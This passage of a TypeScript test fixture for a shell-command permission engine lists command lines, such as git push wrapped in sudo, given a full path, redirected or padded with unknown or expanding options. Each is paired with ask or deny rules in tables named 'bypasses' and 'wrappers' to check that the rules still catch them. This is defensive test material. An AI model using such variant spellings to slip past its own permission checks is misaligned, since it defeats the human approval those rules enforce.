  { command: "cargo +nightly publish", rule: "cargo publish *", effect: "ask", extra: ["cargo publish"] },
  { command: "gh -R o/r pr merge", rule: "gh pr merge *", effect: "ask", extra: ["gh pr merge"] },
  // Wrapped, with a path, with a redirect.
  { command: "sudo git -C . push", rule: "git push *", effect: "deny", extra: ["git push"] },
  { command: "/usr/bin/git -C . push > out", rule: "git push *", effect: "ask", extra: ["git push > out", "git push"] },
  // Unknown options are read both ways.
  { command: "git --frobnicate x push", rule: "git push *", effect: "ask", extra: ["git x push", "git push"] },
  { command: "docker compose -f a.yml down", rule: "docker compose down *", effect: "ask", extra: ["docker compose a.yml down", "docker compose down"] },
]

/** Lines where a word before the operation expands: opaque, asked under `git push * ask`. */
export const EXPANDING_OPTIONS: ReadonlyArray<string> = ["git -C . $X origin", "git -C $D status", 'git -c "$OPT" push', "git -c user.name=x push", "kubectl -n $NS delete pod x"]

/** One table: its rules and every command line in it. */
export interface Table {
  readonly name: string
  readonly rules: ReadonlyArray<PermissionRule.Sourced>
  readonly commands: ReadonlyArray<string>
}

/** Every table, with the rules its lines are judged under (`ISSUE_RULES` for issue 11's own). */
export const TABLES: ReadonlyArray<Table> = [
  { name: "bypasses", rules: BYPASS_RULES, commands: [...BYPASSES.map((c) => c.command), BYPASS_ALLOWED] },
  { name: "lexical divergences", rules: ISSUE_RULES, commands: [...DIVERGENCES.map(([, command]) => command), ...LEXICAL_PLAIN.map(([command]) => command)] },
  { name: "issue 11, items 6-8", rules: ISSUE_RULES, commands: [...DESCRIPTORS.map(([command]) => command), ...CHOOSING_VARIABLES, ...PLAIN_VARIABLES, ...LINKS, ...REPRODUCTIONS, ...TOOLGATE_COMMANDS] },
  { name: "harmless spellings", rules: FIT_RULES, commands: [...FIT_ALLOWED, ...FIT_ASKED] },
  ...EXACT_DENIES.map(([command, exact]) => ({ name: `exact deny of ${exact}`, rules: [rule("*", "*", "allow"), bashRule(exact, "deny")], commands: [command] })),
  { name: "review findings (deny rules)", rules: REVIEW_DENY_RULES, commands: [...FINDINGS.flatMap((found) => found.commands), ...EVERYDAY] },
  { name: "review findings (ask rules)", rules: REVIEW_ASK_RULES, commands: [...FINDINGS.flatMap((found) => found.commands), ...EVERYDAY] },
  { name: "wrappers", rules: WRAPPER_RULES, commands: WRAPPERS.map(([command]) => command) },
  ...OPTIONS.map((c) => ({ name: `options (${c.rule} ${c.effect})`, rules: [rule("*", "*", "allow"), rule("bash", c.rule, c.effect)], commands: [c.command] })),
  { name: "expanding options", rules: [rule("*", "*", "allow"), rule("bash", "git push *", "ask")], commands: [...EXPANDING_OPTIONS, "git -C . status"] },
]
